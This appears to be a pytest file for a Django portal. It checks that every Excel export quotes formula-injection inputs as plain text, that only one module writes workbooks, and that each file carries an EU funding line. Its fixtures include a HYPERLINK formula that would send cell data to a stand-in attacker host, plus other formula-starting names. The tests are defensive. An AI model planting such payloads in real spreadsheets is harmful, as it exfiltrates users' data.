"""Every Excel file the portal hands out (portal.registry.exports) is written by portal/xlsx.py: hostile names go in,
the file opens, nothing in it is a formula, and it carries the EU funding line."""

import ast
import io
from pathlib import Path

import pytest
from django.test import Client
from django.urls import resolve, reverse
from django_scopes import scopes_disabled
from openpyxl import load_workbook

from firms.models import Firm
from portal import roles
from portal.models import Application, User
from portal.registry import exports
from portal.xlsx import FORMULA_STARTS, neutralise
from tests.security.matrix import all_rows, status_for
from training.models import Cohort

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
# control characters a workbook cannot hold (NUL itself never reaches the database: PostgreSQL refuses it)
HOSTILE_NAMES = [HOSTILE, "+90 5xx", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "ad\x01soyad\x07"]
ROOT = Path(__file__).resolve().parents[2]
# Role that asks for an export when several may: the one whose pages carry the most names.
PREFERRED = [roles.STAFF, roles.FINANCE, roles.ME, roles.ASSESSOR, roles.TRAINER, roles.STAKEHOLDER]


def _hostile_world(pw):
    with scopes_disabled():
        for i, user in enumerate(User.objects.all()):
            user.full_name = HOSTILE_NAMES[i % len(HOSTILE_NAMES)]
            user.save(update_fields=["full_name"])
        Firm.objects.filter(program=pw.program).update(name=HOSTILE)
        Application.objects.filter(program=pw.program).update(display_name=HOSTILE)
        Cohort.objects.filter(program=pw.program).update(name=HOSTILE)


def _fetch(pw, name, export, on_commit) -> bytes:
    if export.sample:
        return export.sample(HOSTILE)
    builder, spec = all_rows()[export.url_name]
    ok = [r for r in PREFERRED if r in spec["ok"]] + sorted(spec["ok"])
    role = ok[0]
    client = Client()
    client.force_login(pw.users[role])
    url = reverse(export.url_name, kwargs=builder(pw) if builder else None)
    with on_commit(execute=True):  # a job is sent when its request commits
        response = getattr(client, export.method)(url, export.params)
    if response.status_code == 302:
        job = resolve(response["Location"])
        assert job.url_name == "job_detail", f"{name}: {export.method} {url} went to {response['Location']}"
        response = client.get(reverse("job_download", kwargs=job.kwargs))
    assert response.status_code == 200, f"{name}: {url} as {role} → {response.status_code}"
    assert status_for(role, spec) in {200, 302}
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_neutralise_quotes_what_a_spreadsheet_would_run_and_drops_what_it_cannot_hold():
    assert [neutralise(v) for v in HOSTILE_NAMES] == [
        "'" + HOSTILE,
        "'+90 5xx",
        "'-2+3",
        "'@SUM(A1)",
        "'\tTAB",
        "'\rCR",
        "adsoyad",
    ]
    assert neutralise("a\x00b") == "ab"
    assert neutralise("Ayşe Yılmaz") == "Ayşe Yılmaz"


def test_every_registered_export_is_a_url_of_the_matrix_or_a_sample():
    rows = all_rows()
    assert len(dict(exports.items())) >= 10
    for name, export in exports.items():
        assert export.sample or export.url_name in rows, name


# The applications export job fails for every call until the ApplicationKind fix (issue 15, the "jobs" branch)
# is merged; then this passes and the mark goes.
KNOWN_BROKEN: dict[str, str] = {}


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(n, marks=pytest.mark.xfail(reason=KNOWN_BROKEN[n], strict=False)) if n in KNOWN_BROKEN else n
        for n in sorted(dict(exports.items()))
    ],
)
def test_hostile_names_come_out_of_every_export_as_text(world, name, django_capture_on_commit_callbacks):
    pw = world.a
    _hostile_world(pw)
    book = load_workbook(io.BytesIO(_fetch(pw, name, exports[name], django_capture_on_commit_callbacks)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    formulas = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
    assert not formulas, f"{name}: {formulas}"
    live = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert not live, f"{name}: cells a spreadsheet would run: {live}"
    texts = " ".join(str(c.value) for c in cells) + (book.properties.description or "")
    assert "European Union" in texts or "Avrupa Birliği" in texts, f"{name}: no EU funding line"


def test_the_members_export_shows_the_hostile_name_quoted(world, django_capture_on_commit_callbacks):
    pw = world.a
    _hostile_world(pw)
    book = load_workbook(io.BytesIO(_fetch(pw, "members", exports["members"], django_capture_on_commit_callbacks)))
    values = {c.value for row in book.active.iter_rows() for c in row}
    assert "'" + HOSTILE in values


def test_only_portal_xlsx_writes_workbooks():
    """One Excel writer: nothing else imports openpyxl's Workbook (reading uploads with load_workbook is fine)."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in {"tests", ".venv", "var"} or rel == Path("portal/xlsx.py"):
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            imports = isinstance(node, ast.ImportFrom) and node.module == "openpyxl"
            if imports and any(alias.name == "Workbook" for alias in node.names):
                offenders.append(str(rel))
    assert not offenders, f"write Excel files through portal/xlsx.py: {offenders}"
